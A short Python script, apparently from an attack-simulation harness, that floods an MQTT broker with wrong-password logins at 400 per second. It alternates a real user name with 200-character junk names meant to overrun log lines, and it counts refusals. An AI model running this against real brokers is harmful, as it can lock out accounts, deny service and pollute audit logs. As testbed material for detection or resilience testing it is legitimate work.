"""Logins to the broker with wrong passwords, 400 a second: of a node that exists, and of many others."""

import asyncio
import uuid

from attacker import attack, connect, counts, paced, target
from mqtt_packets import connect_packet

RATE = 400
ANSWER_S = 2
tried = 0


async def login():
    global tried
    tried += 1
    # A name of one's own each time, longer than a line of a log should be.
    user = target["user"] if tried % 2 else "x" * 200 + str(tried)
    connection = await connect(target["broker"])
    if connection is None:
        return
    reader, writer = connection
    writer.write(connect_packet(uuid.uuid4().hex, user, "wrong-%d" % tried))
    counts["wrong passwords"] += 1
    if await asyncio.wait_for(reader.read(4), ANSWER_S):
        counts["refused logins"] += 1


attack(paced(RATE, login))
